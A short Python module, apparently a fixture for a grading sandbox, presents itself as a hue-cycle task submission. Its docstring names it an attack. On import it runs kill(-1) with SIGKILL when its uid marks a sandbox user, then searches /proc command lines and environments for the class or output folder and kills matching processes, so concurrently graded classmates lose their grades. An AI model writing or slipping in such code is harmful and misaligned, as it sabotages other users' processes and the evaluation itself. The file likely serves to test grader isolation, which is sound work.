"""Attack: kill the classmates' grading processes (each pid of /proc that names the class or output folder, and
kill(-1) when it runs as a user of its own): the classmates graded at the same time lose their grades."""

from .attack_common import HueCycleSystem as HueCycleSystem, hsv_to_rgb as hsv_to_rgb  # the shared parts: _common.py


import os as _os
import signal as _signal

# The classmates' grading processes name the class or output folder in their command line or environment.
_MARKS = ("@@CLASS@@".encode(), "@@OUT@@".encode())
if _os.getuid() >= 200000:  # a user of its own (the sandbox's): every process it may signal
    try:
        _os.kill(-1, _signal.SIGKILL)  # all but itself and init
    except OSError:
        pass
for _entry in _os.listdir("/proc"):
    if not _entry.isdigit() or int(_entry) in (_os.getpid(), 1):
        continue
    try:
        _seen = open(f"/proc/{_entry}/cmdline", "rb").read() + open(f"/proc/{_entry}/environ", "rb").read()
    except OSError:
        continue
    if any(m in _seen for m in _MARKS):
        try:
            _os.kill(int(_entry), _signal.SIGKILL)
        except OSError:
            pass
